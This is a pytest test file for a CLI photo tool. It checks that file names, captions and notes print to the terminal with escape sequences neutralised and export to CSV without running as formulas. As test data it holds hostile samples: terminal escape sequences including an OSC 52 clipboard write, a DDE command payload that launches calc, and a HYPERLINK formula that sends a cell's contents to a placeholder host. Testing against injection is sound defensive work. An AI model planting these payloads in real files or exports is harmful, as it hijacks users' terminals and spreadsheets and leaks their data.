"""Checklist class 44: what Longlens prints or exports is inert.

File names can hold any byte but "/" and NUL, captions and notes any character: the terminal
must never receive the control sequences in them (ESC [ ..., OSC 52 which writes the terminal's
clipboard, C1 CSI 0x9b, BEL, backspace, CR, bidi overrides), and a spreadsheet must never run a
CSV cell as a formula. Real files with such names, the real CLI in a child process whose raw
stdout/stderr bytes are checked, real CSV files read back with Python's csv module.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
import unicodedata
from pathlib import Path

import pytest

from engine import review
from engine.catalog import Catalog
from engine.text.inert import FORMULA_STARTS, InertStream, csv_cell, inert, json_text
from tests.e2e.conftest import TINY_MODEL

ROOT = Path(__file__).resolve().parents[2]
MODEL = ["--model", TINY_MODEL]

# The sequences of the finding, one per file name (the OSC 52 one writes "evil" to the clipboard).
OSC52 = "osc\x1b]52;c;ZXZpbA==\x07.jpg"
NASTY_NAMES = [
    OSC52,
    "csi\x1b[2J\x1b[31mred.jpg",
    "c1\x9b31m.jpg",  # C1 CSI as a character (UTF-8 c2 9b)
    "bell\x07bs\x08cr\rdel\x7f.jpg",
    "bidi\u202egpj.exe\u2066x\u2069.jpg",
    "line\u2028sep.jpg",
    "nl\nforged line.jpg",
    "tab\there.jpg",
    "=HYPERLINK(1).jpg",
    os.fsdecode(b"raw\x9b\xff.jpg"),  # not UTF-8: a raw C1 byte, as a POSIX name may hold
]
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def active_characters(text: str, allowed: str = "\n\t") -> list[str]:
    """The characters of `text` a terminal would act on (written independently of
    engine.text.inert: Unicode categories Cc, Zl, Zp, Cs and the bidi controls)."""
    return [c for c in text if c not in allowed and (unicodedata.category(c) in ("Cc", "Zl", "Zp", "Cs")
                                                      or c in BIDI)]


def assert_inert_bytes(raw: bytes, what: str, allowed: str = "\n\t") -> str:
    # Strict UTF-8: a raw undecodable byte (0x9b alone is CSI on an 8-bit terminal) fails here.
    text = raw.decode("utf-8")
    bad = active_characters(text, allowed)
    assert not bad, f"{what}: raw {sorted(set(bad))!r} reached the terminal:\n{text[:2000]!r}"
    return text


# -- the escaping functions ------------------------------------------------------------------
def test_inert_escapes_every_control_bidi_and_separator_character_and_keeps_printable_unicode():
    every = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)]) + "".join(sorted(BIDI)) + "\u2028\u2029"
    shown = inert(every)
    assert not active_characters(shown, allowed="") and shown.isascii()
    assert inert("\x1b]52;c;QQ==\x07") == "\\x1b]52;c;QQ==\\x07" and inert("\x9b") == "\\x9b"
    assert inert("a\nb\tc\rd") == "a\\nb\\tc\\rd"  # a value stays on its line
    assert inert("a\nb\tc\rd\x1b", layout=True) == "a\nb\tc\\rd\\x1b"  # a message keeps its lines
    assert inert("\u202eabc") == "\\u202eabc"
    assert inert(os.fsdecode(b"raw\x9b\xff")) == "raw\\x9b\\xff"  # undecodable bytes as the bytes
    kept = "Café 東京 naïve 👨\u200d👩\u200d👧 \u05e9\u05dc\u05d5\u05dd \\ C:\\photos"
    assert inert(kept) == kept  # printable text, joiners, RTL letters and backslashes are kept


def test_json_text_is_valid_json_with_no_raw_active_character_and_the_same_value():
    value = {"paths": NASTY_NAMES, "text": "\x85next line \u2029 \udc80"}
    text = json_text(value, indent=2)
    assert not active_characters(text)
    assert json.loads(text) == value
    assert [os.fsencode(p) for p in json.loads(text)["paths"]] == [os.fsencode(p) for p in NASTY_NAMES]


def test_csv_cell_is_the_owasp_rule_and_can_be_undone():
    for start in "=+-@\t\r\n\x00'":
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert FORMULA_STARTS >= set("=+-@\t\r")
    for safe in ("photo.jpg", "/abs/=x.jpg", "a;=1", "", " =1"):
        assert csv_cell(safe) == safe
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None  # numbers stay numbers
    # One "'" off every cell that starts with one gives each text back exactly.
    for original in ("=SUM(A1)", "'quoted", "''", "plain", "-"):
        cell = csv_cell(original)
        assert (cell[1:] if cell.startswith("'") else cell) == original


def test_inert_stream_escapes_what_is_written_and_passes_the_rest_through():
    buf = io.StringIO()
    stream = InertStream(buf)
    print("name:\x1b[2J", "\u202eok\n", file=stream, end="")
    stream.writelines(["\x07", "line\n"])
    assert buf.getvalue() == "name:\\x1b[2J \\u202eok\n\\x07line\n"
    assert stream.getvalue() == buf.getvalue()  # everything else is the wrapped stream's


# -- every CSV export --------------------------------------------------------------------------
FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1,2)",
            "=cmd|' /C calc'!A0", "'already quoted", "a;=1,=2"]


def _read_csv(path: Path) -> list[list[str]]:
    # A name that is not UTF-8 is written as its own bytes (as `ls > list` would).
    with open(path, newline="", encoding="utf-8", errors="surrogateescape") as fh:
        return list(csv.reader(fh))


def _all_quoted(raw: str, rows: list[list[str]]) -> bool:
    """Whether the file is exactly these rows with every cell quoted (csv.QUOTE_ALL)."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return buf.getvalue() == raw


def _undo(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def test_review_csv_export_neutralises_formulas_in_captions_and_notes(tmp_path):
    from PIL import Image

    images = []
    for i, name in enumerate(["=evil.png", "plain.png"]):
        p = tmp_path / "imgs" / name
        p.parent.mkdir(exist_ok=True)
        Image.new("RGB", (8, 8), (i * 80, 0, 0)).save(p)
        images.append(p)
    captions = ["=1+1. A red ball.", "+SUM(1). Two trees.", "-3 dogs. A kite.", "@A1 a bench.", "A plain caption."]
    caps = tmp_path / "caps.jsonl"
    caps.write_text("".join(json.dumps({"image": str(images[i % 2]), "caption": c}) + "\n"
                            for i, c in enumerate(captions)), encoding="utf-8")
    with Catalog(tmp_path / "catalog.sqlite3") as cat:
        s = review.open_session(cat, caps)
        notes = [*FORMULAS, "\tTAB", "\rCR"]
        for n, item_id in enumerate(s.item_ids):
            review.set_verdict(cat, item_id, None, "faithful", notes[n % len(notes)])
            review.set_verdict(cat, item_id, 0, "unfaithful", notes[(n + 3) % len(notes)])
        items = review.session_items(cat, s)
        assert review.export_session(cat, s, tmp_path / "v.csv") == len(captions)
    raw = (tmp_path / "v.csv").read_bytes().decode("utf-8")
    rows = _read_csv(tmp_path / "v.csv")
    assert rows[0] == ["line", "image", "scope", "sentence_index", "text", "verdict", "note"]
    body = rows[1:]
    for row in body:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r\n", f"a spreadsheet would run {cell!r}"
    # Every cell is quoted: a spreadsheet that splits on ";" keeps "a;=1,=2" one cell.
    assert _all_quoted(raw, rows)
    # Undoing the prefix gives back exactly what was stored.
    expected = []
    for it in items:
        expected.append([str(it.line_no), it.image_path, "item", "", it.caption, it.verdict.verdict, it.verdict.note])
        for i in range(len(it.sentences)):
            v = it.sentence_verdicts.get(i)
            expected.append([str(it.line_no), it.image_path, "sentence", str(i), it.sentence_text(i),
                             v.verdict if v else "", v.note if v else ""])
    assert [[_undo(c) for c in row] for row in body] == expected
    assert {r[6] for r in body} >= {"'" + f for f in FORMULAS if f[0] in "=+-@'"} | {"a;=1,=2"}
    assert body[0][4] == "'=1+1. A red ball." and body[1][4] == "'=1+1."  # the caption and its sentence


def test_duplicates_csv_export_quotes_every_cell_and_round_trips_hostile_names(tmp_path):
    from engine.duplicates import DuplicateFile, DuplicateGroup, DuplicateReport, export_report

    files = [DuplicateFile(f"/photos/{name}", 1, n, 10, "2020-01-01T00:00:00", "exif", 8, 8, "ab" * 32)
             for n, name in enumerate(NASTY_NAMES)]
    files.append(DuplicateFile("=cmd|' /C calc'!A0", 1, 99, 10, "", "file time", None, None, "cd" * 32))
    report = DuplicateReport(libraries=["/photos"], near_distance=6, similar=None, model=None)
    report.groups = [DuplicateGroup("exact", files, "-same SHA-256 abab…")]
    dest = export_report(report, tmp_path / "list.csv")
    raw = dest.read_bytes().decode("utf-8", "surrogateescape")
    rows = _read_csv(dest)
    assert _all_quoted(raw, rows)
    for row in rows[1:]:
        assert row[4][0] not in "=+-@\t\r", row
    assert [_undo(r[4]) for r in rows[1:]] == [f.path for f in files]
    assert {_undo(r[11]) for r in rows[1:]} == {"-same SHA-256 abab…"} and rows[1][11].startswith("'-")
    assert rows[1][0] == "1" and rows[1][3] == str(10 * len(files))  # numbers read back as before


# -- every verb's terminal output, from a real child process ---------------------------------
# One child runs the commands one after another through engine.cli.main, each with its fd 1 and
# fd 2 pointed at files: the bytes checked are what a terminal would have received, through the
# real sys.stdout/sys.stderr (UTF-8, strict, as on an en_US.UTF-8 terminal). One process, so the
# model libraries load once.
DRIVER = textwrap.dedent("""
    import json, os, sys
    from engine.cli import main

    runs, out = json.loads(sys.argv[1]), sys.argv[2]
    for name, argv in runs:
        sys.stdout.flush(); sys.stderr.flush()
        saved = os.dup(1), os.dup(2)
        for fd, suffix in ((1, "out"), (2, "err")):
            f = os.open(os.path.join(out, f"{name}.{suffix}"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
            os.dup2(f, fd)
            os.close(f)
        try:
            code = main(argv)
        finally:
            sys.stdout.flush(); sys.stderr.flush()
            os.dup2(saved[0], 1); os.dup2(saved[1], 2)
        with open(os.path.join(out, f"{name}.rc"), "w") as fh:
            fh.write(str(code))
""")


def _run_commands(runs: list[tuple[str, list[str]]], out: Path, home: Path) -> dict[str, tuple[int, bytes, bytes]]:
    out.mkdir()
    env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""),
           "LONGLENS_HOME": str(home), "PYTHONIOENCODING": "utf-8:strict", "LC_ALL": "C.UTF-8"}
    # argv travels as JSON: lone surrogates (the undecodable bytes of a name) survive it.
    r = subprocess.run([sys.executable, "-c", DRIVER, json.dumps(runs), str(out)], cwd=ROOT, env=env,
                       capture_output=True, timeout=600)
    assert r.returncode == 0, r.stderr.decode("utf-8", "replace")
    got = {}
    for name, _ in runs:
        got[name] = (int((out / f"{name}.rc").read_text()), (out / f"{name}.out").read_bytes(),
                     (out / f"{name}.err").read_bytes())
    return got


@pytest.fixture
def hostile_library(home, tmp_path) -> tuple[Path, list[Path]]:
    """An indexed-to-be folder whose own name holds OSC 52, with pictures named by NASTY_NAMES
    (exact copies of one picture, so `duplicates` lists every one) and an unreadable file."""
    from tests.duplicate_pictures import make_duplicates_folder

    root = tmp_path / "lib\x1b]52;c;QUJD\x07"
    files = make_duplicates_folder(root)
    nasty = [Path(shutil.copy2(files["a.jpg"], root / name)) for name in NASTY_NAMES]
    (root / "broken\x1b[5m\u202e.jpg").write_bytes(b"not a picture")
    return root, nasty


def test_no_verb_writes_a_raw_control_sequence_from_a_file_name_caption_or_message(hostile_library, home, paths,
                                                                                   tmp_path):
    root, nasty = hostile_library
    caps = tmp_path / "caps.jsonl"
    caps.write_text(json.dumps({"image": str(nasty[1]), "caption": "A red \x1b[31mball\x07. Two\u202e trees."}) + "\n"
                    + json.dumps({"image": str(root / "missing\x1b]52;c;QQ==\x07.jpg"), "caption": "x"}) + "\n",
                    encoding="utf-8")
    with Catalog(paths.catalog) as cat:  # a reviewed caption, for the XMP export's dry run
        session = review.open_session(cat, caps)
        review.set_verdict(cat, session.item_ids[0], None, "faithful", "note \x1b[8m\u202e")
    csv_out = tmp_path / "dups.csv"
    runs = [
        ("index", ["index", str(root), *MODEL]),  # with its progress bars
        ("index_json", ["index", str(root), *MODEL, "--json", "--quiet"]),
        ("libraries", ["libraries"]),
        ("libraries_json", ["libraries", "--json"]),
        ("search", ["search", "a picture \x1b[2J", *MODEL, "--top", "50"]),
        ("search_json", ["search", "a picture", *MODEL, "--top", "50", "--json"]),
        ("duplicates", ["duplicates", "--quiet"]),
        ("duplicates_json", ["duplicates", "--quiet", "--json", "--out", str(csv_out)]),
        ("check", ["check", str(caps), "--out", str(tmp_path / "r\x1b[1m.jsonl"), *MODEL]),
        ("ground", ["ground", str(nasty[2]), "a red \x1b[31mball\u202e.", "--out", str(tmp_path / "g\x07out"), *MODEL]),
        ("error", ["check", str(tmp_path / "none\x1b]52;c;QQ==\x07.jsonl"), "--out", str(tmp_path / "x.jsonl")]),
        # engine/cli/xmp.py (the sidecar helper's) is covered by the same net: its dry run lists sidecars.
        ("xmp_dry_run", ["xmp", "export", str(caps), "--convention", "darktable", "--dry-run"]),
        # One picture's metadata (issue 28): its path and every field as text and as JSON.
        ("show", ["show", str(nasty[0])]),
        ("show_json", ["show", str(nasty[0]), "--json"]),
    ]
    got = _run_commands(runs, tmp_path / "captured", home)
    for name, (_code, out, err) in got.items():
        assert_inert_bytes(out, f"{name} stdout")
        # The progress bars draw with CR on stderr (tqdm's own, never a file name's).
        assert_inert_bytes(err, f"{name} stderr", allowed="\n\t\r" if name == "index" else "\n\t")
        assert b"Traceback" not in err, (name, err.decode("utf-8", "replace"))

    assert got["index"][0] == 0 and got["index_json"][0] == 0
    index_text = got["index"][1].decode()
    assert "lib\\x1b]52;c;QUJD\\x07" in index_text and "broken\\x1b[5m\\u202e.jpg" in index_text

    # JSON stays valid and exact: every name reads back as the bytes on disk.
    assert json.loads(got["index_json"][1])["root"] == str(root.resolve())
    assert json.loads(got["libraries_json"][1])[0]["root"] == str(root.resolve())
    assert "lib\\x1b]52;c;QUJD\\x07" in got["libraries"][1].decode()

    assert got["show"][0] == 0 and json.loads(got["show_json"][1])["path"] == str(nasty[0].resolve())
    search_text = got["search"][1].decode()
    on_disk = {os.fsencode(p.resolve()) for p in nasty}
    hits = json.loads(got["search_json"][1])["results"]
    assert on_disk <= {os.fsencode(h["path"]) for h in hits}
    for shown in ("osc\\x1b]52;c;ZXZpbA==\\x07.jpg", "c1\\x9b31m.jpg", "bell\\x07bs\\x08cr\\rdel\\x7f.jpg",
                  "bidi\\u202egpj.exe\\u2066x\\u2069.jpg", "line\\u2028sep.jpg", "nl\\nforged line.jpg",
                  "tab\\there.jpg", "raw\\x9b\\xff.jpg"):
        assert shown in search_text and shown in got["duplicates"][1].decode(), shown
    for name in ("search", "duplicates"):
        # A newline in a name cannot forge a line of the output.
        assert not any(line.startswith("forged line") for line in got[name][1].decode().splitlines())

    dup = json.loads(got["duplicates_json"][1])
    exact = next(g for g in dup["groups"] if g["kind"] == "exact")
    assert on_disk <= {os.fsencode(f["path"]) for f in exact["files"]}
    rows = _read_csv(csv_out)
    assert on_disk <= {os.fsencode(r[4]) for r in rows[1:]}  # absolute paths: no prefix needed

    check_err = got["check"][2].decode()
    assert got["check"][0] == 1 and "missing\\x1b]52;c;QQ==\\x07.jpg" in check_err
    assert "r\\x1b[1m.jsonl" in got["check"][1].decode()
    assert got["ground"][0] == 0 and "a red \\x1b[31mball\\u202e." in got["ground"][1].decode()
    assert got["error"][0] == 2 and "none\\x1b]52;c;QQ==\\x07.jsonl" in got["error"][2].decode()
    assert "csi\\x1b[2J\\x1b[31mred" in got["xmp_dry_run"][1].decode(), got["xmp_dry_run"]  # listed, escaped
